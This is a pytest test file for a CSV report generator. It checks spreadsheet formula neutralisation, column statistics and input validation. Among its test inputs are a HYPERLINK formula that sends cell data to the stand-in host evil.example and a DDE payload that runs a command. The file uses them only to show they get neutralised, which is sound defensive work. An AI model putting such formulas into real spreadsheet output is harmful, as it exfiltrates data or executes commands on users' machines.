"""Tests for ``report.generate``: spreadsheet-safe CSV, statistics, and payload refusals."""

from __future__ import annotations

import csv
import importlib
import io
import json
import math
import statistics
from typing import Any

import pytest
from pydantic import ValidationError

from workers.contract.catalogue import default_catalogue
from workers.demo.report import (
    MAX_COLUMNS,
    MAX_ROWS,
    GenerateReport,
    generate_report,
    neutralise,
    summarise,
    to_csv,
)


def _report(**overrides: Any) -> GenerateReport:
    values: dict[str, Any] = {
        "title": "Sales",
        "columns": ["item", "qty", "price"],
        "rows": [["apple", 3, 0.5], ["pear", 1, 0.75], ["fig", None, 2.0]],
    }
    values.update(overrides)
    return GenerateReport.model_validate(values)


def _parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


# --- CSV --------------------------------------------------------------------------------


def test_report_renders_csv_with_header_and_empty_nulls() -> None:
    """The CSV has the header then one line per row; null cells are empty."""
    result = generate_report(_report())
    assert result["title"] == "Sales"
    assert result["row_count"] == 3
    assert _parse(result["csv"]) == [
        ["item", "qty", "price"],
        ["apple", "3", "0.5"],
        ["pear", "1", "0.75"],
        ["fig", "", "2.0"],
    ]
    assert result["csv"].endswith("\r\n")  # RFC 4180 line ends


def test_report_quotes_commas_quotes_and_newlines_safely() -> None:
    """Commas and quotes in text are quoted, so a cell cannot spill into the next one."""
    result = generate_report(_report(rows=[['a, "b"', 1, 1.0]]))
    assert _parse(result["csv"])[1] == ['a, "b"', "1", "1.0"]


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        '=HYPERLINK("https://evil.example/?"&A1,"click")',
        "+41 22 000",
        "-2+3",
        "@SUM(A1:A9)",
        "=cmd|' /C calc'!A0",
    ],
)
def test_report_neutralises_formula_cells(cell: str) -> None:
    """Text a spreadsheet would evaluate gets a leading apostrophe."""
    result = generate_report(_report(rows=[[cell, 1, 1.0]]))
    assert _parse(result["csv"])[1][0] == "'" + cell


def test_report_neutralises_formula_column_names() -> None:
    """Header cells are neutralised too (the summary keeps the real names)."""
    result = generate_report(_report(columns=["=name", "qty", "price"], rows=[["a", 1, 2]]))
    assert _parse(result["csv"])[0] == ["'=name", "qty", "price"]
    assert set(result["summary"]) == {"qty", "price"}


def test_report_writes_negative_numbers_as_numbers() -> None:
    """A negative number is a number, not a formula: no apostrophe."""
    result = generate_report(_report(rows=[["a", -5, -0.25]]))
    assert _parse(result["csv"])[1] == ["a", "-5", "-0.25"]


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_neutralise_covers_every_formula_prefix(prefix: str) -> None:
    """All OWASP prefixes, including tab and carriage return, are neutralised."""
    assert neutralise(prefix + "x") == "'" + prefix + "x"


@pytest.mark.parametrize("cell", ["plain", "a=b", "x-1", "", "'already"])
def test_neutralise_leaves_ordinary_text_alone(cell: str) -> None:
    """Only a leading formula character triggers the prefix."""
    assert neutralise(cell) == cell


def test_to_csv_handles_no_rows() -> None:
    """No rows: the header alone."""
    assert to_csv(["a", "b"], []) == "a,b\r\n"


# --- statistics -------------------------------------------------------------------------


def test_summary_statistics_are_correct() -> None:
    """count, sum, min, max, mean, median and sample stdev match the statistics module."""
    values = [4, 1, 3, 2]
    rows = [[str(v), v] for v in values]
    result = generate_report(_report(columns=["label", "n"], rows=rows))
    assert result["summary"] == {
        "n": {
            "count": 4,
            "sum": 10,
            "min": 1,
            "max": 4,
            "mean": 2.5,
            "median": 2.5,
            "stdev": statistics.stdev(values),
        }
    }
    assert result["summary"]["n"]["stdev"] == pytest.approx(1.2909944487358056)


def test_summary_skips_nulls_and_mixes_ints_and_floats() -> None:
    """Nulls are not counted; a column of ints and floats is numeric; float sums are exact."""
    result = generate_report(
        _report(columns=["x"], rows=[[0.1]] * 10 + [[None], [1]]),
    )
    summary = result["summary"]["x"]
    assert summary["count"] == 11
    assert summary["sum"] == 2.0  # fsum: ten 0.1s make exactly 1.0
    assert (summary["min"], summary["max"]) == (0.1, 1)


def test_summary_leaves_out_text_mixed_and_empty_columns() -> None:
    """Only columns whose non-null cells are all numbers (at least one) get statistics."""
    rows = [["a", 1, None, "x"], ["b", 2, None, 3]]
    result = generate_report(_report(columns=["t", "n", "empty", "mixed"], rows=rows))
    assert set(result["summary"]) == {"n"}


def test_summary_stdev_needs_two_values() -> None:
    """With one value the sample stdev is undefined: None."""
    assert summarise([7]) == {
        "count": 1,
        "sum": 7,
        "min": 7,
        "max": 7,
        "mean": 7,
        "median": 7,
        "stdev": None,
    }


def test_result_is_strict_json_even_at_the_numeric_bounds() -> None:
    """Extreme but allowed values never produce inf or NaN in the result."""
    rows = [[1e300], [1e300], [-1e300], [1e300]]
    result = generate_report(_report(columns=["big"], rows=rows))
    json.dumps(result, allow_nan=False)
    assert all(
        v is None or math.isfinite(v) for v in result["summary"]["big"].values() if v is not None
    )


def test_report_handles_the_largest_table_quickly() -> None:
    """10 000 rows by 50 numeric columns render and summarise (bounded work)."""
    columns = [f"c{i}" for i in range(MAX_COLUMNS)]
    rows = [[float(r + c) for c in range(MAX_COLUMNS)] for r in range(MAX_ROWS)]
    result = generate_report(_report(columns=columns, rows=rows))
    assert result["row_count"] == MAX_ROWS
    assert result["summary"]["c0"]["count"] == MAX_ROWS
    assert result["csv"].count("\r\n") == MAX_ROWS + 1


# --- refusals ---------------------------------------------------------------------------


def test_row_with_wrong_cell_count_is_refused_without_echoing_cells() -> None:
    """A row that does not match the columns is refused; the error names the row, not values."""
    with pytest.raises(ValidationError) as info:
        _report(rows=[["apple", 3, 0.5], ["secret-cell", 1]])
    message = str(info.value)
    assert "row 1 has 2 cells; expected 3" in message
    assert "secret-cell" not in message


def test_row_longer_than_the_column_cap_is_refused() -> None:
    """A row can never exceed the column cap, whatever the columns say."""
    with pytest.raises(ValidationError):
        _report(columns=["a"], rows=[[1] * (MAX_COLUMNS + 1)])


@pytest.mark.parametrize(
    "columns",
    [
        [],
        [f"c{i}" for i in range(MAX_COLUMNS + 1)],
        ["a", "a"],
        [""],
        ["x" * 101],
        ["bad\nname"],
        ["zero\u200bwidth"],
        [1],
        "abc",
    ],
)
def test_bad_columns_are_refused(columns: Any) -> None:
    """1..50 unique, non-empty, clean single-line names only."""
    with pytest.raises(ValidationError):
        _report(columns=columns, rows=[])


@pytest.mark.parametrize(
    "cell",
    [
        True,
        float("nan"),
        float("inf"),
        1e301,
        10**18 + 1,
        -(10**18) - 1,
        "x" * 201,
        "line\nbreak",
        "nul\0",
        [1],
        {"a": 1},
        b"bytes",
    ],
)
def test_bad_cells_are_refused(cell: Any) -> None:
    """Booleans, non-finite or huge numbers, long or control text and nesting are refused."""
    with pytest.raises(ValidationError) as info:
        _report(columns=["c"], rows=[[cell]])
    assert "line\\nbreak" not in str(info.value)


def test_too_many_rows_are_refused() -> None:
    """More than 10 000 rows is refused."""
    with pytest.raises(ValidationError):
        _report(columns=["c"], rows=[[1]] * (MAX_ROWS + 1))


@pytest.mark.parametrize("title", ["", "x" * 201, "two\nlines", "\u202eevil"])
def test_bad_titles_are_refused(title: str) -> None:
    """The title is one clean line of 1..200 characters."""
    with pytest.raises(ValidationError):
        _report(title=title)


def test_unknown_fields_are_refused() -> None:
    """Unknown fields are refused."""
    with pytest.raises(ValidationError):
        _report(format="xlsx")


def test_json_payload_validates_like_python() -> None:
    """The same limits hold when the payload arrives as JSON text."""
    model = GenerateReport.model_validate_json(
        '{"title": "t", "columns": ["a", "b"], "rows": [[1, 2.5], [null, "x"]]}'
    )
    assert model.rows == [[1, 2.5], [None, "x"]]
    with pytest.raises(ValidationError):
        GenerateReport.model_validate_json('{"title": "t", "columns": ["a"], "rows": [[true]]}')


def test_task_is_declared_once() -> None:
    """report.generate registers once, on import, with this schema and function."""
    importlib.import_module("workers.demo.report")
    importlib.import_module("workers.demo.report")
    spec = default_catalogue.get("report.generate")
    assert spec is not None
    assert spec.fn is generate_report
    assert spec.schema is GenerateReport
    assert spec.secret_fields == ()
    assert spec.max_payload_bytes >= 1024 * 1024
